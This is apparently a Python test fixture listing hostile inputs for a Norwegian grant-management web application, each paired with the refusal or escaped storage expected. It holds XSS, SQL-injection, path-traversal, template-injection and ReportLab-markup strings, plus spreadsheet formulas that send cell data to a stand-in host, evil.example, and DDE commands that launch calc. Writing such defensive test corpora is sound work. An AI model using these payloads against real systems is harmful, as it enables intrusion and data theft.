"""The hostile-input corpus for text, numbers and dates (issue 20). The hostile *files* are beside this module
(README.md, generate.py); FILES below lists them with what each must be refused with.

Each input has an id, a kind, the value as typed, the outcome in one Norwegian line (docs/security.md, «Fiendtlige
inndata (korpus)», is made from these) and, per channel, the Norwegian message it is refused with or the value it
is stored as when that is not the obvious one. tests/security/test_hostile_corpus.py pushes every input through
the real pages of its channels and checks exactly that.

Channels (what a user types into):
  tekst    a long free text: the application's goal (autosave, then the application page), a decision's reasons
           (the decision letter PDF), the annual report's narratives (its PDF and XLSX) and a progress report
  navn     a one-line name: a network's name (its page and the CSV/XLSX directory export), an output's title
  lenke    an output's link
  filnavn  the name of an uploaded file
  budsjett an amount on a budget line (autosave)
  import   tildelt_kr in the historical allocation import (the preview)
  importnavn  a network's name in the same import (unicode inputs)
  dato     a decision's report deadline
Unless a channel says otherwise, a text is stored as typed (Django trims the ends) and a name as
common.text.clean_name makes it, and both are shown escaped.

Values are str; a lone surrogate in a value is sent as the bytes it stands for (U+D800–U+DFFF with
"surrogatepass", U+DC80–U+DCFF as the raw byte, i.e. "surrogateescape"), so invalid UTF-8 can be sent too.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass, field
from decimal import Decimal

# --- channels and messages -------------------------------------------------------------------------------------

TEXT, NAME, LINK, FILENAME, BUDGET, IMPORT, DATE = "tekst", "navn", "lenke", "filnavn", "budsjett", "import", "dato"
IMPORT_NAME = "importnavn"

IDENTITY = "Teksten ser ut til å inneholde et fødselsnummer eller D-nummer."
NUL = "Null-tegn er ikke tillatt."
TOO_LONG = "Sørg for at denne verdien har"  # … «20000 eller færre tegn (den har nå 100000)»
REQUIRED = "Feltet er påkrevet."
BAD_URL = "Oppgi en gyldig nettadresse."
BAD_DATE = "Oppgi en gyldig dato."
DATE_RANGE = "Datoen må være mellom 01.01.2000 og 31.12."
TOO_LARGE = "er for stort. Det største beløpet Læringsnett kan lagre, er 999\u00a0999\u00a0999\u00a0999\u00a0kr."
NEGATIVE = "kan ikke være negativt."
DECIMALS = "hele kroner, uten øre."  # issue 17: whole kroner everywhere (common.money.parse_kroner)
NOT_AMOUNT = "beløpet med sifre, for eksempel"
NOT_WHOLE = "er ikke et tall i hele kroner."
AMOUNT_LENGTH = "Sørg for at denne verdien har 30 eller færre tegn"

FNR = "15031552327"  # passes both check digits (generated; tests/common/test_sensitive.py)
DNR = "55031552310"


@dataclass(frozen=True)
class Hostile:
    id: str
    kind: str
    value: str
    outcome: str
    refused: dict[str, str] = field(default_factory=dict)  # channel -> (part of) the Norwegian message
    stored: dict[str, object] = field(default_factory=dict)  # channel -> the stored value, when not the obvious

    def __str__(self) -> str:
        return self.id


def _h(kind, id_, value, outcome, refused=None, stored=None) -> Hostile:
    return Hostile(f"{kind}-{id_}", kind, value, outcome, refused or {}, stored or {})


SHOWN = "lagret som skrevet, vist escaped"
NEUTRAL = "lagret som skrevet, vist escaped; i CSV/XLSX med ' foran (ingen formel)"
AS_TEXT = "lagret som skrevet, vist escaped; i PDF som tekst (ingen markup tolket)"

# --- XSS -------------------------------------------------------------------------------------------------------

XSS = [
    _h("xss", "script", "<script>alert(1)</script>", SHOWN),
    _h("xss", "script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", SHOWN),
    _h("xss", "img-onerror", "<img src=x onerror=alert(1)>", SHOWN),
    _h("xss", "svg-onload", "<svg onload=alert(1)>", SHOWN),
    _h("xss", "svg-script", "<svg><script>alert(1)</script></svg>", SHOWN),
    _h("xss", "breakout-double", '"><script>alert(document.cookie)</script>', SHOWN),
    _h("xss", "breakout-single", "' onmouseover='alert(1)", SHOWN),
    _h("xss", "autofocus", '" autofocus onfocus="alert(1)', SHOWN),
    _h("xss", "close-textarea", "</textarea><script>alert(1)</script>", SHOWN),
    _h("xss", "close-title", "</title><script>alert(1)</script>", SHOWN),
    _h("xss", "close-script", "</script><script>alert(1)</script>", SHOWN),
    _h("xss", "javascript-text", "javascript:alert(1)", SHOWN),
    _h("xss", "a-javascript", '<a href="javascript:alert(1)">klikk</a>', SHOWN),
    _h("xss", "iframe", '<iframe src="https://evil.example"></iframe>', SHOWN),
    _h("xss", "body-onload", "<body onload=alert(1)>", SHOWN),
    _h("xss", "details-ontoggle", "<details open ontoggle=alert(1)>", SHOWN),
    _h("xss", "math-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', SHOWN),
    _h("xss", "pre-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;", "vist escaped én gang til (aldri dekodet)"),
    _h("xss", "nested", "<scr<script>ipt>alert(1)</scr</script>ipt>", SHOWN),
    _h("xss", "style", "<style>body{display:none}</style>", SHOWN),
    _h("xss", "meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', SHOWN),
    _h("xss", "comment", "<!-- Læringsnett", SHOWN),
    _h("xss", "base", '<base href="https://evil.example/">', SHOWN),
    _h("xss", "form", "<form action=https://evil.example><input name=x></form>", SHOWN),
]

# --- template syntax (Django, Jinja and friends): shown literally, never evaluated ------------------------------

LITERAL = "vist bokstavelig, ikke tolket som mal"
TEMPLATE = [
    _h("mal", "expression", "{{ 7*7 }}", LITERAL),
    _h("mal", "user-email", "{{ request.user.email }}", LITERAL),
    _h("mal", "secret", "{{ settings.SECRET_KEY }}", LITERAL),
    _h("mal", "debug", "{% debug %}", LITERAL),
    _h("mal", "load", "{% load static %}{% static 'x' %}", LITERAL),
    _h("mal", "dollar", "${7*7}", LITERAL),
    _h("mal", "hash", "#{7*7}", LITERAL),
]

# --- formula injection (CSV/XLSX) -------------------------------------------------------------------------------

FORMULA = [
    _h("formel", "hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")', NEUTRAL),
    _h("formel", "sum", "=1+2", NEUTRAL),
    _h("formel", "plus-cmd", "+cmd|' /C calc'!A0", NEUTRAL),
    _h("formel", "minus", "-2+3", NEUTRAL),
    _h("formel", "at-sum", "@SUM(1+1)*cmd|' /C calc'!A0", NEUTRAL),
    _h("formel", "dde", "=cmd|' /C notepad'!'A1'", NEUTRAL),
    _h(
        "formel",
        "tab",
        "\t=1+2",
        "tab og linjeskift i starten fjernes (tekst: trimmet; navn: normalisert); =1+2 får ' foran",
    ),
    _h("formel", "cr", "\r=1+2", "som over: =1+2 får ' foran"),
    _h("formel", "importxml", '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', NEUTRAL),
    _h("formel", "webservice", '=WEBSERVICE("http://evil.example")', NEUTRAL),
    _h("formel", "two", "=1+2;=3+4", NEUTRAL),
    _h("formel", "minus-one", "-1", NEUTRAL),
    _h("formel", "at", "@", NEUTRAL),
    _h("formel", "fullwidth", "\uff1d1+2", "fullbredde = er ikke en formel i Excel: lagret og eksportert som tekst"),
    _h(
        "formel",
        "control-first",
        "\x01=1+2",
        "kontrolltegnet fjernes i XLSX, og =1+2 får likevel ' foran (navn: tegnet fjernes før lagring)",
    ),
]

# --- reportlab markup in PDFs ---------------------------------------------------------------------------------

REPORTLAB = [
    _h("reportlab", "font", '<font color="red" size="40">Stor rød tekst</font>', AS_TEXT),
    _h("reportlab", "img-passwd", '<img src="/etc/passwd" width="100" height="100"/>', AS_TEXT),
    _h("reportlab", "img-remote", '<img src="https://evil.example/x.png"/>', AS_TEXT),
    _h("reportlab", "a-href", '<a href="https://evil.example">lenke</a>', AS_TEXT),
    _h("reportlab", "link-file", '<link href="file:///etc/passwd">fil</link>', AS_TEXT),
    _h("reportlab", "unclosed-b", "<b>ulukket fet skrift", AS_TEXT),
    _h("reportlab", "close-para", "</para> etter avsnittet", AS_TEXT),
    _h("reportlab", "para", '<para alignment="right">nytt avsnitt</para>', AS_TEXT),
    _h("reportlab", "entities", "&nbsp;&amp;&lt;&bogus; &#0; &#x110000;", AS_TEXT),
    _h("reportlab", "br", "a<br/><br/><br/>b", AS_TEXT),
    _h("reportlab", "seq", '<seq id="x"/><seqreset id="x"/>', AS_TEXT),
    _h("reportlab", "ondraw", '<onDraw name="x" label="y"/>', AS_TEXT),
    _h("reportlab", "crossed", "<u><i><strike>kryss</b></i>", AS_TEXT),
    _h("reportlab", "unichar", '<unichar name="SNOWMAN"/>', AS_TEXT),
    _h("reportlab", "span", '<span style="x" fontSize="400">stor</span>', AS_TEXT),
    _h("reportlab", "bullet", '<bullet bulletIndent="-999">x</bullet>', AS_TEXT),
]

# --- unicode ------------------------------------------------------------------------------------------------------

SHOWN_U = "tekst: lagret som skrevet; navn: lagret slik"


def _nfc(value: str) -> str:
    return unicodedata.normalize("NFC", value)


_ZALGO = "Z" + "\u0336\u0321\u0322\u031b" * 10 + "algo"
_GRAPHEME = "e" + "\u0301" * 300
_FFFD3 = "\ufffd" * 3
UNICODE = [
    _h("unicode", "rtl-override", "Prosjekt \u202eexe.txt", "navn: U+202E fjernes", stored={NAME: "Prosjekt exe.txt"}),
    _h("unicode", "rlo-reference", "VL-2026-0001\u202e", "navn: U+202E fjernes", stored={NAME: "VL-2026-0001"}),
    _h(
        "unicode",
        "isolates",
        "\u2067Bergen\u2069 nettverk",
        "navn: isolatene fjernes",
        stored={NAME: "Bergen nettverk"},
    ),
    _h("unicode", "marks", "Nett\u200fverk\u200e", "navn: RLM/LRM fjernes", stored={NAME: "Nettverk"}),
    _h("unicode", "zwsp", "Trygg\u200b hjemme", "navn: ZWSP fjernes", stored={NAME: "Trygg hjemme"}),
    _h("unicode", "zwj-zwnj", "Fos\u200dter\u200chjem", "navn: ZWJ/ZWNJ fjernes", stored={NAME: "Fosterhjem"}),
    _h("unicode", "bom", "\ufeffLæringsnettverk", "navn: BOM fjernes", stored={NAME: "Læringsnettverk"}),
    _h("unicode", "soft-hyphen", "Fos\u00adterhjem", "navn: myk bindestrek fjernes", stored={NAME: "Fosterhjem"}),
    _h("unicode", "word-joiner", "Vest\u2060land", "navn: ordbinder fjernes", stored={NAME: "Vestland"}),
    _h("unicode", "tags", "Vest\U000e0041\U000e0042land", "navn: tag-tegn fjernes", stored={NAME: "Vestland"}),
    _h("unicode", "nfd", "Ha\u030akon og Ma\u030ar", "navn: NFC (Håkon og Mår)", stored={NAME: "Håkon og Mår"}),
    _h("unicode", "nfd-acute", "Sa\u0301mi", "navn: NFC (Sámi)", stored={NAME: "Sámi"}),
    _h("unicode", "zalgo", _ZALGO, "lagret med kombinerende tegn (NFC i navn)", stored={NAME: _nfc(_ZALGO)}),
    _h(
        "unicode",
        "long-grapheme",
        _GRAPHEME,
        "tekst: lagret; navn: avvist (300 tegn, over 200)",
        refused={NAME: TOO_LONG, IMPORT_NAME: "nettverk er for langt (høyst 200 tegn)."},
    ),
    _h(
        "unicode",
        "emoji-zwj",
        "Barnevern 👶🏽👨\u200d👩\u200d👧\u200d👦",
        "tekst: lagret; navn: ZWJ fjernes, familien blir fire personer",
        stored={NAME: "Barnevern 👶🏽👨👩👧👦"},
    ),
    _h("unicode", "flag", "Norge 🇳🇴", SHOWN_U),
    _h(
        "unicode",
        "lone-surrogate",
        "Halv\ud83d emoji",
        "ugyldig UTF-8 blir U+FFFD ved mottak; en importfil som ikke er UTF-8, leses som Windows-1252",
        stored={TEXT: f"Halv{_FFFD3} emoji", NAME: f"Halv{_FFFD3} emoji", IMPORT_NAME: "Halví ½ emoji"},
    ),
    _h(
        "unicode",
        "overlong-utf8",
        "\udcc0\udcbcscript\udcc0\udcbe",
        "overlang UTF-8 for < og > blir U+FFFD, aldri < (importfil: Windows-1252, «À¼scriptÀ¾»)",
        stored={
            TEXT: "\ufffd\ufffdscript\ufffd\ufffd",
            NAME: "\ufffd\ufffdscript\ufffd\ufffd",
            IMPORT_NAME: "À¼scriptÀ¾",
        },
    ),
    _h(
        "unicode",
        "nul",
        "før\x00etter",
        "tekst: avvist (nulltegn); navn: nulltegnet fjernes; importfil med nulltegn: avvist",
        refused={TEXT: NUL, IMPORT_NAME: "Innholdet i filen stemmer ikke med filtypen."},
        stored={NAME: "føretter"},
    ),
    _h(
        "unicode",
        "controls",
        "\x01\x02\x07\x08\x0b\x0c\x1b[31mrød\x1b[0m",
        "tekst: lagret (i XLSX fjernes tegnene); navn: kontrolltegn fjernes",
        stored={NAME: "[31mrød[0m"},
    ),
    _h("unicode", "del-c1", "Slett\x7f\x85\x9b", "navn: DEL og C1-tegn fjernes", stored={NAME: "Slett"}),
    _h(
        "unicode",
        "line-separators",
        "Linje\u2028to\u2029tre",
        "navn: blir mellomrom",
        stored={NAME: "Linje to tre"},
    ),
    _h(
        "unicode",
        "noncharacters",
        "Ikke\ufffe\uffff tegn",
        "lagret; i XLSX fjernes tegnene (ellers blir filen ugyldig XML)",
    ),
    _h("unicode", "private-use", "Privat \ue000\uf8ff", SHOWN_U),
    _h("unicode", "homoglyph-cyrillic", "B\u0435rg\u0435n", "lagret som skrevet (ingen homoglyfsjekk), vist escaped"),
    _h("unicode", "homoglyph-fullwidth", "\uff22\uff45\uff52\uff47\uff45\uff4e", "lagret som skrevet (NFC, ikke NFKC)"),
    _h("unicode", "arabic-mixed", "مرحبا Bergen", SHOWN_U),
    _h("unicode", "variation-selector", "Hjerte \u2764\ufe0f", SHOWN_U),
    _h("unicode", "ideographic-space", "Nett\u3000verk", "navn: blir vanlig mellomrom", stored={NAME: "Nett verk"}),
    _h(
        "unicode",
        "only-invisible",
        "\u200b\u200e\u202e\ufeff",
        "navn: blir tomt og avvises som påkrevd; tekst: lagret",
        refused={NAME: REQUIRED, IMPORT_NAME: "mangler nettverk: et prosjekt hører til et nettverk."},
    ),
]

# --- identity numbers -------------------------------------------------------------------------------------------

REFUSED_ID = "avvist med norsk melding om fødselsnummer/D-nummer, ingenting endret"
IDENTITY_NUMBERS = [
    _h("fnr", "valid", FNR, REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "d-number", DNR, REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "space", f"{FNR[:6]} {FNR[6:]}", REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "hyphen", f"{FNR[:6]}-{FNR[6:]}", REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "dot", f"{DNR[:6]}.{DNR[6:]}", REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "nbsp", f"{FNR[:6]}\u00a0{FNR[6:]}", REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "in-sentence", f"Gutten (fnr {FNR}) flyttet", REFUSED_ID, refused={TEXT: IDENTITY, NAME: IDENTITY}),
    _h("fnr", "bad-checksum", "15031552328", "lagret: ugyldig kontrollsiffer er ikke et fødselsnummer"),
    _h("fnr", "twelve-digits", FNR + "0", "lagret: del av et lengre tall"),
    _h("fnr", "account-number", "76940512057", "lagret: gyldig kontonummer, ikke fødselsnummer"),
]

# --- SQL-ish and path traversal: plain text -----------------------------------------------------------------------

AS_PLAIN = "lagret som vanlig tekst, vist escaped, tabellene urørt"
SQL = [
    _h("sql", "or", "' OR 1=1 --", AS_PLAIN),
    _h("sql", "drop", "'; DROP TABLE networks_learningnetwork; --", AS_PLAIN),
    _h("sql", "quotes", '" OR ""="', AS_PLAIN),
    _h("sql", "sleep", "1; SELECT pg_sleep(10)", AS_PLAIN),
    _h("sql", "comment", "admin'--", AS_PLAIN),
    _h("sql", "union", "') UNION SELECT password FROM accounts_user --", AS_PLAIN),
]

SAFE_NAME = "som tekst lagret og vist escaped; som filnavn renset (ingen / \\ eller ..-sti)"
PATHS = [
    _h("sti", "unix", "../../etc/passwd", SAFE_NAME),
    _h("sti", "windows", "..\\..\\windows\\win.ini", SAFE_NAME),
    _h("sti", "absolute", "/etc/passwd", SAFE_NAME),
    _h("sti", "encoded", "%2e%2e%2fetc%2fpasswd", SAFE_NAME),
    _h("sti", "file-url", "file:///etc/passwd", SAFE_NAME),
    _h("sti", "unc", "\\\\server\\share\\x", SAFE_NAME),
    _h("sti", "xss-name", "<img src=x onerror=alert(1)>", SAFE_NAME),
    _h("sti", "header", '"x"\r\nX-Evil: 1', SAFE_NAME),
]

# --- over-long text ---------------------------------------------------------------------------------------------

LENGTH = [
    _h(
        "lengde",
        "100k",
        "a" * 100_000,
        "avvist (over 20 000 tegn / 200 i navn), ingenting endret",
        refused={TEXT: TOO_LONG, NAME: TOO_LONG},
    ),
    _h(
        "lengde",
        "20001",
        "b" * 20_001,
        "avvist, ingenting endret",
        refused={TEXT: TOO_LONG, NAME: TOO_LONG},
    ),
    _h("lengde", "20000", "c " * 10_000, "tekst: lagret (akkurat grensen); navn: avvist", refused={NAME: TOO_LONG}),
    _h("lengde", "name-200", "N" * 200, "lagret (akkurat grensen for navn)"),
    _h("lengde", "name-201", "N" * 201, "navn: avvist; tekst: lagret", refused={NAME: TOO_LONG}),
    _h(
        "lengde",
        "emoji-100k",
        "👶" * 100_000,
        "avvist (100 000 tegn, 400 KB)",
        refused={TEXT: TOO_LONG, NAME: TOO_LONG},
    ),
]

# --- links (output) -----------------------------------------------------------------------------------------------

LINKS = [
    _h("lenke", "javascript", "javascript:alert(1)", "avvist: ugyldig nettadresse", refused={LINK: BAD_URL}),
    _h("lenke", "javascript-case", "JaVaScRiPt:alert(1)", "avvist", refused={LINK: BAD_URL}),
    _h("lenke", "data", "data:text/html,<script>alert(1)</script>", "avvist", refused={LINK: BAD_URL}),
    _h("lenke", "vbscript", "vbscript:msgbox(1)", "avvist", refused={LINK: BAD_URL}),
    _h("lenke", "file", "file:///etc/passwd", "avvist", refused={LINK: BAD_URL}),
    _h(
        "lenke",
        "breakout",
        'https://example.no/"><script>alert(1)</script>',
        "lagret, escaped i href (ingen utbrytning)",
    ),
]

# --- numbers: an amount on a budget line and tildelt_kr in the allocation import ----------------------------------

_BIG = f"{TOO_LARGE}"
NUMBERS = [
    _h("tall", "1e20", "1e20", "avvist: for stort", refused={BUDGET: _BIG, IMPORT: _BIG}),
    _h(
        "tall",
        "spaced-huge",
        "99 999 999 999 999 999 999",
        "avvist: for stort",
        refused={BUDGET: _BIG, IMPORT: _BIG},
    ),
    _h("tall", "10e12", "1000000000000", "avvist: for stort (10^12)", refused={BUDGET: _BIG, IMPORT: _BIG}),
    _h(
        "tall",
        "largest",
        "999999999999",
        "lagret: det største beløpet",
        stored={BUDGET: Decimal("999999999999"), IMPORT: Decimal("999999999999")},
    ),
    _h("tall", "negative", "-1", "avvist: negativt", refused={BUDGET: NEGATIVE, IMPORT: NEGATIVE}),
    _h(
        "tall",
        "negative-zero",
        "-0",
        "lagret som 0",
        stored={BUDGET: Decimal("0"), IMPORT: Decimal("0")},
    ),
    _h("tall", "nan", "NaN", "avvist: ikke et beløp", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_AMOUNT}),
    _h("tall", "snan", "sNaN", "avvist: ikke et beløp", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_AMOUNT}),
    _h("tall", "infinity", "Infinity", "avvist: ikke et beløp", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_AMOUNT}),
    _h("tall", "minus-inf", "-inf", "avvist: ikke et beløp", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_AMOUNT}),
    _h(
        "tall",
        "comma-decimal",
        "1,5",
        "avvist: hele kroner",
        refused={BUDGET: DECIMALS, IMPORT: DECIMALS},
    ),
    _h(
        "tall",
        "spaced-decimal",
        "1 000,50",
        "avvist: hele kroner",
        refused={BUDGET: DECIMALS, IMPORT: DECIMALS},
    ),
    _h(
        "tall",
        "thousands-dot",
        "1.005",
        "lagret som 1 005 (punktum skiller tusener)",
        stored={BUDGET: Decimal("1005"), IMPORT: Decimal("1005")},
    ),
    _h("tall", "tiny", "1e-7", "avvist: ikke et beløp", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_AMOUNT}),
    _h(
        "tall",
        "exponent-overflow",
        "1e99999999999999999999",
        "avvist: ikke et tall (Decimal kan ikke lese det)",
        refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_WHOLE},
    ),
    _h("tall", "hex", "0x10", "avvist: ikke et tall", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_WHOLE}),
    _h(
        "tall",
        "thousands-commas",
        "12,345,678",
        "lagret som 12 345 678 (komma skiller tusener)",
        stored={BUDGET: Decimal("12345678"), IMPORT: Decimal("12345678")},
    ),
    _h("tall", "sql", "' OR 1=1 --", "avvist: ikke et tall", refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_WHOLE}),
    _h(
        "tall",
        "400-digits",
        "9" * 400,
        "avvist: over 30 tegn (budsjett) / for stort (import)",
        refused={BUDGET: AMOUNT_LENGTH, IMPORT: _BIG},
    ),
    _h(
        "tall",
        "arabic-digits",
        "\u0661\u0662\u0663",
        "lagret som 123 (Unicode-sifre er sifre)",
        stored={BUDGET: Decimal("123"), IMPORT: Decimal("123")},
    ),
    _h(
        "tall",
        "underscore",
        "1_000",
        "avvist: ikke et beløp",
        refused={BUDGET: NOT_AMOUNT, IMPORT: NOT_AMOUNT},
    ),
]

# --- dates: a decision's report deadline --------------------------------------------------------------------------

RANGE = "avvist: utenfor 01.01.2000 … 31.12. om 15 år, ingen vedtak"
INVALID = "avvist: ikke en dato, ingen vedtak"
DATES = [
    _h("dato", "9999", "9999-12-31", RANGE, refused={DATE: DATE_RANGE}),
    _h("dato", "0001", "0001-01-01", RANGE, refused={DATE: DATE_RANGE}),
    _h("dato", "1899", "1899-12-31", RANGE, refused={DATE: DATE_RANGE}),
    _h("dato", "1999", "1999-12-31", RANGE, refused={DATE: DATE_RANGE}),
    _h("dato", "2042", "2042-01-01", RANGE, refused={DATE: DATE_RANGE}),
    _h("dato", "two-digit-year", "01.01.70", RANGE, refused={DATE: DATE_RANGE}),
    _h("dato", "feb-30", "2026-02-30", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "month-13", "31.13.2026", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "feb-29-2027", "29.02.2027", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "zeros", "00.00.0000", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "year-10000", "10000-01-01", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "negative-year", "-2026-01-01", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "datetime", "2026-01-01T00:00", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "nul", "2027-03-01\x00", INVALID, refused={DATE: BAD_DATE}),
    _h("dato", "sql", "' OR 1=1 --", INVALID, refused={DATE: BAD_DATE}),
]

# --- which inputs go through which channel ----------------------------------------------------------------------

TEXTS = XSS + TEMPLATE + FORMULA + REPORTLAB + UNICODE + IDENTITY_NUMBERS + SQL + PATHS + LENGTH
ALL = TEXTS + LINKS + NUMBERS + DATES

# The annual report (PDF and XLSX) and the progress report cost more per input: the kinds that matter there.
ANNUAL = [h for h in TEXTS if h.kind in ("formel", "reportlab", "unicode")]
PROGRESS_REPORT = [h for h in TEXTS if h.kind in ("xss", "fnr", "lengde", "mal")]
OUTPUT_TITLE = [h for h in TEXTS if h.kind in ("xss", "mal", "sti", "unicode")]
FILE_NAMES = PATHS + XSS[:6]


# --- the hostile files (generate.py, README.md) -----------------------------------------------------------------

PACKED = "Filen er pakket på en måte vi ikke godtar"
XML_DEFS = "Filen inneholder XML med egne definisjoner (DOCTYPE eller ENTITY)"


@dataclass(frozen=True)
class HostileFile:
    name: str
    channel: str  # "vedlegg" (an application's attachment) or "import" (the allocation import page)
    message: str  # the refusal, or "" when the file is read as it should be

    def __str__(self) -> str:
        return self.name


FILES = [
    HostileFile("odt-bzip2-mimetype-300mb.odt", "vedlegg", f"{PACKED}: den bruker en komprimeringsmetode"),
    HostileFile("odt-deflate-mimetype-50mb.odt", "vedlegg", "komprimert uvanlig hardt"),
    HostileFile("docx-deflate-document-50mb.docx", "vedlegg", "komprimert uvanlig hardt"),
    HostileFile("docx-bzip2.docx", "vedlegg", "komprimeringsmetode"),
    HostileFile("docx-lzma.docx", "vedlegg", "komprimeringsmetode"),
    HostileFile("docx-encrypted.docx", "vedlegg", "kryptert"),
    HostileFile("xlsx-billion-laughs.xlsx", "import", XML_DEFS),
    HostileFile("xlsx-billion-laughs-shared-strings.xlsx", "import", XML_DEFS),
    HostileFile("xlsx-quadratic-blowup.xlsx", "import", XML_DEFS),
    HostileFile("xlsx-external-entity.xlsx", "import", XML_DEFS),
    HostileFile("xlsx-deflate-shared-strings-50mb.xlsx", "import", f"{PACKED}: den blir for stor når den pakkes ut"),
    HostileFile("xlsx-bzip2-sheet.xlsx", "import", f"{PACKED}: den bruker en komprimeringsmetode"),
    HostileFile("xlsx-row-number-jump.xlsx", "import", "Filen har for mange rader: over "),
    HostileFile("xlsx-wide-row.xlsx", "import", "Filen har for mange kolonner: over 50."),
    HostileFile("xlsx-forged-dimension.xlsx", "import", ""),
]
